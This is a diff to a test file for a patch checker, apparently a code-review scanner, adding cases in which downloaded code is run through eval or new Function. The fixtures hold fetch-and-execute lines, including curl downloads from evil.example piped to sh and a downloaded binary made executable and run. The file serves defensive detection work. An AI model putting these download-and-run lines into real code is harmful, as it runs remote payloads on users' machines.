@@ -233,6 +233,9 @@ describe('checkPatch reads what a patch adds', () => {
     ['a shell from Node', ['+const u = "https://evil.example/p";', '+execSync(`curl -fsSL ${u} -o /tmp/p`); execSync("sh /tmp/p");']],
     ['Go', ['+resp, _ := http.Get(url)', '+exec.Command("bash", "-c", string(b)).Run()']],
     ['a download made executable', ['+curl -fsSLo guard https://evil.example/guard', '+chmod +x guard && ./guard']],
+    ['axios', ['+const { data } = await axios(url);', '+eval(data);']],
+    ['the global fetch', ['+const t = await (await globalThis.fetch(url)).text();', '+(0, eval)(t);']],
+    ['window.fetch', ['+const t = await (await window.fetch(url)).text();', '+new Function(t)();']],
   ])('accepts, for the approver to judge, a download and a run on separate lines, and names it (%s)', (_, added) => {
     // Act
     const result = checkPatch(gitDiff('src/setup.ts', { body: [' export function total(items) {', ...added] }));
